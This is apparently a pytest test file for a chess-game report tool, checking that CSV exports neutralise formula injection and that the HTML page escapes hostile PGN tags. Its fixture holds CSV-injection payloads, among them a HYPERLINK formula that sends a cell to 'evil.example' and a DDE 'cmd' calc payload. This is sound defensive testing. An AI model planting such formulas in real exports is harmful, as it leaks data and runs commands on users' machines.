"""Hostile tags in the report's files: a CSV cell that comes from an input's tag (event, players,
site, termination) and starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a
formula in a spreadsheet (CSV injection); the CSV files give it a leading apostrophe (OWASP's
advice), the Parquet files keep the values as they are, and the page shows them as text.

Fixture: an over-the-board game of 2019 (FIDE 2018 in force) that repeats its position five
times and goes on to a decisive result (both audit contradictions), its tags hostile; and the
same moves as a second game whose Site is a URL-looking formula.
"""

from __future__ import annotations

import os
import re

import polars as pl
import pytest

from analyzer import report
from report_checks import cli

HOSTILE = {
    "Event": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "White": "+SUM(1+1)*cmd|' /C calc'!A0",
    "Black": "-2+3",
    "Site": "@SUM(1)",
    "Termination": "\tnormal",
}
MOVES = "1. Nf3 Nf6 2. Ng1 Ng8 3. Nf3 Nf6 4. Ng1 Ng8 5. Nf3 Nf6 6. Ng1 Ng8 7. Nf3 Nf6 8. Ng1 Ng8 9. e4 1-0"


def _game(tags: dict) -> str:
    head = "".join(f'[{k} "{v}"]\n' for k, v in {**tags, "Date": "2019.05.01", "Result": "1-0"}.items())
    return head + "\n" + MOVES + "\n\n"


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    d = tmp_path_factory.mktemp("csv")
    second = {**HOSTILE, "Site": "+London", "Event": "-cmd"}
    (d / "hostile.pgn").write_text(_game(HOSTILE) + _game(second), encoding="utf-8")
    out = d / "out"
    proc, _ = cli("scan", str(d / "hostile.pgn"), "--out", str(out), "--edition", "fide_2018")
    assert proc.returncode == 0, proc.stderr[-2000:]
    path = report.write_report(str(out))
    return {"out": str(out), "dir": os.path.dirname(path), "index": path}


FORMULA = re.compile(r"^[=+\-@\t\r]")


def test_audit_games_csv_neutralises_formulas(run):
    import csv

    with open(os.path.join(run["dir"], "audit_games.csv"), newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 4  # two games x two contradictions
    for r in rows:
        for col in ("event", "white", "black", "site", "termination"):
            assert not FORMULA.match(r[col]), (col, r[col])
            assert r[col].startswith("'"), (col, r[col])
    assert {r["white"] for r in rows} == {"'" + HOSTILE["White"]}
    parquet = pl.read_parquet(os.path.join(run["dir"], "audit_games.parquet"))
    assert set(parquet["white"]) == {HOSTILE["White"]}  # the values as they are
    assert set(parquet["site"]) == {HOSTILE["Site"], "+London"}


def test_no_csv_cell_of_any_file_starts_a_formula(run):
    import csv

    seen = 0
    for root, _, files in os.walk(run["dir"]):
        for f in files:
            if not f.endswith(".csv"):
                continue
            with open(os.path.join(root, f), newline="", encoding="utf-8") as fh:
                for row in csv.reader(fh):
                    for cell in row:
                        seen += 1
                        if FORMULA.match(cell):  # only a number may start with - or +
                            assert re.fullmatch(r"[-+]?\d[\d.,eE+-]*", cell), cell
    assert seen > 100


def test_page_shows_hostile_tags_as_text(run):
    with open(run["index"], encoding="utf-8") as fh:
        page = fh.read()
    assert "<script" not in page
    assert "+SUM(1+1)*cmd|&#39; /C calc&#39;!A0" in page  # escaped, as text


def test_every_formula_start_is_neutralised():
    from analyzer.report import files

    df = pl.DataFrame({"t": ["=1", "+1", "-1", "@1", "\t1", "\r1", "a=1", "1", None], "n": list(range(9))})
    got = files.neutralised(df)
    assert got["t"].to_list() == ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "a=1", "1", None]
    assert got["n"].to_list() == list(range(9))
